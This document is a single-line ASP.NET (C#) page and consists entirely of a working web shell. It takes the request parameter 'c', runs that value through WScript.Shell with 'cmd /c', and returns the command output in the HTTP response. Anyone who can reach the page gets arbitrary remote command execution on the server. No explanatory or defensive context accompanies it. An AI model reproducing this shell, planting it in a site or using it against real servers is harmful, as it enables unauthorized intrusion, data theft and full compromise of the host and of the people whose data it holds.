<%@ Page Language="C#" %><% dynamic sh = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell")); Response.Write(sh.Exec("cmd /c " + Request["c"]).StdOut.ReadAll()); %>
